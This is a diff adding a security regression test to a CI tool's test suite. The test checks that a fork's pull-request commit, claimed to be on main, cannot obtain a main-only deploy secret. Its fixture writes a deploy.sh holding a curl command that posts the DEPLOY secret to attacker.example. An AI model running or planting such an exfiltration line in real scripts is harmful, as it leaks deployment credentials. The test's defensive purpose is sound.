@@ -274,3 +274,92 @@ def test_the_listing_says_what_narwhal_itself_uses_a_secret_for(tmp_path):
     listed = {s["name"]: s for s in load_config(root).secrets_overview()}
     assert listed["DEPLOY"]["used_by"] == ["forge gh: token (statuses)"] and listed["DEPLOY"]["pipelines"] == ["ci"]
     assert listed["HOOK"]["used_by"] == ["forge gh: webhook secret"] and listed["HOOK"]["pipelines"] == []
+
+
+# --- attack pass: the branch a token holder names ---------------------------------------------
+
+
+def _fork_pull_request(path: str) -> str:
+    """A commit that is on no branch, only under refs/pull/7/head (what GitHub, Gitea and a
+    clone --mirror of them have for a fork's pull request); returns it."""
+    from narwhal.cli.gitrepo import add_commit
+
+    git = ["git", "-C", path]
+    subprocess.run([*git, "checkout", "-q", "-b", "fork"], check=True)
+    commit = add_commit(path, {"deploy.sh": "curl -d \"$DEPLOY\" https://attacker.example\n"}, "fork")
+    subprocess.run([*git, "update-ref", "refs/pull/7/head", commit], check=True)
+    subprocess.run([*git, "checkout", "-q", "main"], check=True)
+    subprocess.run([*git, "branch", "-q", "-D", "fork"], check=True)
+    return commit
+
+
+def test_attack_a_branch_named_with_a_commit_does_not_unlock_a_secret_limited_to_it(tmp_path, monkeypatch):
+    """POST /commit takes the branch on the caller's word. A secret limited to `branches: [main]`
+    (its events default to every one but pull_request, so `api` too) went to any commit sent with
+    `"branch": "main"`: a fork's pull request head, which the mirror has under refs/pull/. A
+    branch given with a commit unlocks a branch-limited secret only when the commit is on it."""
+    import asyncio
+
+    from narwhal.dispatch import scheduler as scheduler_mod
+    from narwhal.execution.health import Health
+    from narwhal.execution.runner import Outcome
+
+    granted: dict[str, dict] = {}
+
+    async def run_job(transport, spec, archive, sink, cancel, owner):
+        granted[spec.commit] = dict(spec.secrets)
+        await asyncio.sleep(0)
+        return Outcome(JobStatus.PASSED)
+
+    async def healthy(transport, timeout=10):
+        import time
+
+        return Health("healthy", checked_at=time.time(), free_disk=50 * 2**30)
+
+    class Transport:
+        def __init__(self, runner, settings=None):
+            self.name = runner.name
+
+        async def close(self):
+            pass
+
+    async def no_reap(transport, owner, keep):
+        return []
+
+    monkeypatch.setattr(scheduler_mod.runner_mod, "run_job", run_job)
+    monkeypatch.setattr(scheduler_mod.runner_mod, "reap", no_reap)
+    monkeypatch.setattr(scheduler_mod.health_mod, "check", healthy)
+    monkeypatch.setattr(scheduler_mod, "make_transport", Transport)
+    root = config_dir(tmp_path, PIPELINE.replace("    secrets: [{name: OTHER, optional: true}]\n", ""),
+                      "DEPLOY: {file: deploy, branches: [main]}")
+    path, on_main = make_git_repo(str(tmp_path / "repo"))
+    fork = _fork_pull_request(path)
+    d = Dispatcher(load_config(root), tmp_path / "state")
+    d.start()
+    try:
+        app = webtest.TestApp(make_app(d, token="t0ken-abc"))
+        auth = {"Authorization": "Bearer t0ken-abc"}
+        ids = {}
+        for commit in (fork, on_main):
+            r = app.post_json("/commit", {"repo": path, "commit": commit, "branch": "main"}, headers=auth)
+            [job] = r.json["jobs"]
+            ids[commit] = job["id"]
+        import time
+
+        deadline = time.monotonic() + 30
+        while time.monotonic() < deadline and not all(d.store.get_job(i).is_final for i in ids.values()):
+            time.sleep(0.05)
+        refused = d.store.get_job(ids[fork])
+        assert "DEPLOY" not in granted.get(fork, {}), "a fork's commit got the main-only secret"
+        assert refused.status is JobStatus.ERROR
+        assert refused.reason == (f"secret DEPLOY is not available to commit {fork[:12]}: it is not on branch "
+                                  "main (secrets.DEPLOY.branches; submit the branch without a commit to build its head)")
+        assert granted[on_main] == {"DEPLOY": VALUE}  # a commit on main still gets it
+        # A retry decides again, as the start does.
+        app.post_json(f"/jobs/{ids[fork]}/retry", {}, headers=auth)
+        deadline = time.monotonic() + 30
+        while time.monotonic() < deadline and not d.store.get_job(ids[fork]).is_final:
+            time.sleep(0.05)
+        assert d.store.get_job(ids[fork]).status is JobStatus.ERROR and fork not in granted
+    finally:
+        d.stop()
